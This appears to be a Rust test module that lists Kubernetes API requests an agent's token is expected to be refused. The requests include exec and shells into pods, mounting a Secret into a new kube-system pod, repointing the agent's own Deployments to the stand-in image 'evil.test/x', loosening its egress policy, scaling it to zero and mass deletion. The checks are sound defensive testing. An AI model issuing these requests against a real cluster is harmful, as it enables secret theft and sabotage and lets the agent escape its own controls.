//! What the link's token would run, enter or stop.

use serde_json::{Value, json};

use super::super::attacks::{Attack, Places, attack};
use super::super::bodies;
use super::{NO_RIGHT, get, object, write};

/// Requests on a pod that lead into it or away with it.
pub(super) fn pods(places: &Places, quiet: &str) -> Vec<Attack> {
    let Places { agent, ours, secret } = places;
    let path = |namespace: &str, more: &str| format!("/api/v1/namespaces/{namespace}/pods{more}");
    let mount = json!({"volumes": [{"name": "s", "secret": {"secretName": secret}}]});
    let plain = || bodies::pod(&json!({}), &json!({}));
    let mut attacks = Vec::new();
    for (namespace, title) in [
        ("kube-system", "kube-system"),
        (agent.as_str(), "its own namespace"),
        (ours.as_str(), "an environment"),
        (quiet, "an environment without logs"),
    ] {
        for (method, what) in [
            ("GET", "exec?command=sh&stdout=true"),
            ("POST", "exec?command=sh&stdout=true"),
            ("GET", "attach?stdout=true"),
            ("POST", "attach?stdout=true"),
            ("GET", "portforward?ports=8080"),
            ("POST", "portforward?ports=8080"),
            ("GET", "proxy/"),
            ("POST", "proxy/"),
        ] {
            let word = what.split(['?', '/']).next().unwrap_or(what);
            let title = format!("{word} of a pod in {title} by {method}");
            attacks.push(attack(&title, method, path(namespace, &format!("/x/{what}")), None, NO_RIGHT));
        }
        let body = json!({"spec": {}});
        attacks.extend([
            write(
                &format!("adds a container to a pod in {title}"),
                "PATCH",
                &path(namespace, "/x/ephemeralcontainers"),
                body.clone(),
            ),
            write(&format!("resizes a pod in {title}"), "PATCH", &path(namespace, "/x/resize"), body.clone()),
            write(
                &format!("writes the status of a pod in {title}"),
                "PATCH",
                &path(namespace, "/x/status"),
                body.clone(),
            ),
            write(
                &format!("evicts a pod in {title}"),
                "POST",
                &path(namespace, "/x/eviction"),
                object("policy/v1", "Eviction", "x"),
            ),
            write(
                &format!("binds a pod in {title} to a node"),
                "POST",
                &path(namespace, "/x/binding"),
                json!({"target": {"name": "node1"}}),
            ),
            write(&format!("changes a pod in {title}"), "PATCH", &path(namespace, "/x"), body.clone()),
            write(&format!("deletes a pod in {title}"), "DELETE", &path(namespace, "/x"), Value::Null),
            write(&format!("deletes all pods in {title}"), "DELETE", &path(namespace, ""), Value::Null),
            write(&format!("creates a pod in {title}"), "POST", &path(namespace, ""), plain()),
            write(&format!("applies a pod in {title}"), "APPLY", &path(namespace, "/thief"), plain()),
        ]);
        attacks.push(get(
            &format!("calls a service in {title}"),
            format!("/api/v1/namespaces/{namespace}/services/x:80/proxy/"),
        ));
    }
    attacks.push(write(
        "mounts the Secret in a pod beside it",
        "POST",
        &path("kube-system", ""),
        bodies::pod(&mount, &json!({})),
    ));
    attacks
}

/// The agent's own objects and those of environments.
pub(super) fn objects(places: &Places) -> Vec<Attack> {
    let Places { agent, ours, .. } = places;
    let mut attacks = Vec::new();
    let image = json!({"spec": {"template": {"spec": {"containers": [{"name": "agent", "image": "evil.test/x"}]}}}});
    for (title, api, plural, name, change) in [
        ("the link's Deployment", "apis/apps/v1", "deployments", format!("{agent}-link"), image.clone()),
        ("the operator's Deployment", "apis/apps/v1", "deployments", format!("{agent}-operator"), image),
        (
            "the link's account",
            "api/v1",
            "serviceaccounts",
            format!("{agent}-link"),
            json!({"metadata": {"annotations": {"eks.amazonaws.com/role-arn": "x"}}}),
        ),
        ("the CA that it trusts", "api/v1", "configmaps", format!("{agent}-ca"), json!({"data": {"ca.crt": "x"}})),
        (
            "its own NetworkPolicy",
            "apis/networking.k8s.io/v1",
            "networkpolicies",
            format!("{agent}-link"),
            json!({"spec": {"egress": [{}]}}),
        ),
        (
            "the quota on what it stores",
            "api/v1",
            "resourcequotas",
            format!("{agent}-objects"),
            json!({"spec": {"hard": {}}}),
        ),
        (
            "its own PodDisruptionBudget",
            "apis/policy/v1",
            "poddisruptionbudgets",
            format!("{agent}-link"),
            json!({"spec": {"minAvailable": 9}}),
        ),
    ] {
        let path = format!("/{api}/namespaces/{agent}/{plural}/{name}");
        for (verb, method) in [("patches", "PATCH"), ("applies", "APPLY"), ("deletes", "DELETE")] {
            attacks.push(write(&format!("{verb} {title}"), method, &path, change.clone()));
        }
        attacks.push(get(&format!("reads {title}"), path));
    }
    let scale = json!({"spec": {"replicas": 0}});
    for role in ["link", "operator"] {
        let path = format!("/apis/apps/v1/namespaces/{agent}/deployments/{agent}-{role}/scale");
        attacks.push(write(&format!("stops the {role} by scaling it"), "PATCH", &path, scale.clone()));
    }
    for (namespace, title) in
        [(agent.as_str(), "its own namespace"), (ours.as_str(), "an environment"), ("kube-system", "kube-system")]
    {
        for (api, kind, plural) in [
            ("v1", "ConfigMap", "configmaps"),
            ("v1", "Service", "services"),
            ("v1", "Endpoints", "endpoints"),
            ("v1", "Event", "events"),
            ("v1", "ServiceAccount", "serviceaccounts"),
            ("v1", "PersistentVolumeClaim", "persistentvolumeclaims"),
            ("v1", "PodTemplate", "podtemplates"),
            ("v1", "ReplicationController", "replicationcontrollers"),
            ("apps/v1", "Deployment", "deployments"),
            ("apps/v1", "StatefulSet", "statefulsets"),
            ("apps/v1", "DaemonSet", "daemonsets"),
            ("apps/v1", "ReplicaSet", "replicasets"),
            ("batch/v1", "Job", "jobs"),
            ("batch/v1", "CronJob", "cronjobs"),
            ("networking.k8s.io/v1", "NetworkPolicy", "networkpolicies"),
            ("networking.k8s.io/v1", "Ingress", "ingresses"),
            ("discovery.k8s.io/v1", "EndpointSlice", "endpointslices"),
        ] {
            let root = if api == "v1" { "api" } else { "apis" };
            let path = format!("/{root}/{api}/namespaces/{namespace}/{plural}");
            attacks.push(write(&format!("creates a {kind} in {title}"), "POST", &path, object(api, kind, "thief")));
            if ["ConfigMap", "Deployment", "Job", "NetworkPolicy"].contains(&kind) {
                attacks.push(write(
                    &format!("applies a {kind} in {title}"),
                    "APPLY",
                    &format!("{path}/thief"),
                    object(api, kind, "thief"),
                ));
                attacks.push(write(&format!("deletes every {kind} in {title}"), "DELETE", &path, Value::Null));
            }
        }
    }
    attacks
}
